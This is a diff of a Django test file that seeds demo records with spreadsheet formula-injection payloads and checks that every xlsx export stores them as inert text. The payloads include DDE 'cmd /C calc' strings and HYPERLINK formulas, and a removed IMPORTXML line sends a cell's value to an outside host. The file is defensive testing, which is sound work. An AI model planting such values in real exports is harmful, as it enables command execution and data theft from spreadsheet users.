@@ -1,94 +1,80 @@
-"""Text that a spreadsheet would take for a formula is text in every workbook, letter by letter."""
+"""Whatever a name looks like, no workbook of ours computes it: a cell is text, number or day."""
 
 from io import BytesIO
 
 import pytest
-from django.http import HttpResponse
-from django.test import Client
+from django.urls import reverse
 from openpyxl import load_workbook
-from openpyxl.cell import Cell
 
-from core.sheets import Sheet, SheetColumn, workbook
-from core.text import nfc
-from tests.abuse.rights import addresses, browser
-from tests.abuse.world import world  # noqa: F401 - a fixture
-from tests.portal.test_hostile_text import poison
+from accounts.models import User
+from awards.models import Title
+from clusters.models import ClusterEdition, EmulationYear
+from conferences.models import Conference
+from documents.models import LegalBasis
+from organizations.models import Person, UnitName
+from scoring.models import CriteriaSet
+from tests.abuse.tables import workbook_addresses
+from tests.people import browser_of
 
 pytestmark = pytest.mark.django_db
 
-STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+# The same marks as wide as a Chinese letter; some programs read them alike.
+WIDE = tuple(chr(ord(mark) + 0xFEE0) for mark in "=+-@")
+MARKS = ("=", "+", "-", "@", *WIDE)
 FORMULAS = (
-    "=1+1",
-    "+1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x","y")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
     "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "＝1+1",
-    "＋1+1",
-    "－1+1",
-    "＠SUM(1)",
-    '=HYPERLINK("http://example.org","Bấm")',
-    '=DDE("cmd";"/C calc";"!A0")',
-    "=cmd|'/C calc'!'A1'",
-    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
-    "\u200b=1+1",
-    "{=1+1}",
-    "http://example.org/",
+    *(f"{mark}1+1" for mark in WIDE),
 )
-XLSX = "spreadsheetml"
+# What a list shows of each kind of record.
+SHOWN = {
+    UnitName: ("full_name", "short_name"),
+    Person: ("full_name",),
+    Title: ("name",),
+    LegalBasis: ("abstract", "issuer"),
+    ClusterEdition: ("name",),
+    Conference: ("title",),
+    CriteriaSet: ("name",),
+    EmulationYear: ("theme",),
+    User: ("full_name",),
+}
 
 
-def test_every_workbook_of_the_product_is_inert(world):  # noqa: F811
-    assert poison(FORMULAS) > 500
-    books = [
-        (url, book)
-        for role in ("quantri", "vanphongtoicao")
-        for url in {url for _, _, url, _ in addresses(world.own)}
-        if (book := workbook_of(browser(role), url)) is not None
-    ]
-    assert len({url for url, _ in books}) > 8
-    faults = [f"{url} {fault}" for url, book in books for fault in faults_of(book)]
-    assert faults == []
-    told = {str(cell.value) for _, book in books for cell in cells(book)}
-    assert {
-        text for text in FORMULAS[:5] if not any(text.strip() in each for each in told)
-    } == set()
+@pytest.fixture
+def hostile(demo: None) -> None:
+    """Every name in the demo begins like a formula."""
+    for model, fields in SHOWN.items():
+        for number, row in enumerate(model._base_manager.order_by("pk")):
+            start = FORMULAS[number % len(FORMULAS)]
+            values = {name: f"{start} {getattr(row, name)}"[:150] for name in fields}
+            model._base_manager.filter(pk=row.pk).update(**values)
 
 
-def test_what_goes_into_a_cell_comes_out_of_it():
-    rows = tuple((text,) for text in FORMULAS)
-    sheet = Sheet("Thử", (SheetColumn("Chữ", 20),), rows)
-    book = workbook([sheet])
-    read = [cell.value for cell in cells(book)][1:]
-    assert read == [nfc(text).replace("\r", "\n") for text in FORMULAS]
-    assert faults_of(book) == []
+def test_every_list_has_a_workbook_in_which_nothing_computes(hostile: None) -> None:
+    browser = browser_of(User.objects.get(username="quantri"))
+    computing, written = [], 0
+    for address in workbook_addresses():
+        answer = browser.get(address)
+        assert answer.status_code == 200, address
+        for sheet in load_workbook(BytesIO(answer.getvalue())):
+            for cell in (cell for row in sheet for cell in row if cell.value is not None):
+                written += 1
+                is_text = cell.data_type == "s"
+                if cell.data_type == "f" or (
+                    is_text and str(cell.value).startswith(MARKS) and not cell.quotePrefix
+                ):
+                    computing.append(f"{address} {cell.coordinate}: {cell.value!r}")
+    assert computing == []
+    assert written > 500
 
 
-def workbook_of(client: Client, url: str) -> bytes | None:
-    """The workbook an address gives, be it a list's or its own."""
-    answer: HttpResponse = client.get(url, {"xuat": "xlsx"})
-    is_book = XLSX in answer.headers.get("Content-Type", "")
-    return answer.getvalue() if is_book else None
-
-
-def cells(book: bytes) -> list[Cell]:
-    return [
-        cell
-        for page in load_workbook(BytesIO(book))
-        for row in page.iter_rows()
-        for cell in row
-        if cell.value is not None
-    ]
-
-
-def faults_of(book: bytes) -> list[str]:
-    """Cells that would be reckoned, linked, or become a formula once somebody edits them."""
-    found = []
-    for cell in cells(book):
-        text = cell.value if isinstance(cell.value, str) else ""
-        is_bare = text.startswith(STARTS) and not cell.quotePrefix
-        if cell.data_type == "f" or cell.hyperlink is not None or is_bare:
-            found.append(f"{cell.coordinate} {cell.data_type} {cell.value!r}")
-    return found
+def test_a_text_comes_out_of_the_workbook_as_it_went_in(hostile: None) -> None:
+    browser = browser_of(User.objects.get(username="quantri"))
+    answer = browser.get(f"{reverse('awards:titles')}?xuat=xlsx")
+    sheet = load_workbook(BytesIO(answer.content)).active
+    told = {str(cell.value) for row in sheet for cell in row if cell.value is not None}
+    names = set(Title.objects.values_list("name", flat=True))
+    assert {name.strip() for name in names} <= {text.strip() for text in told}
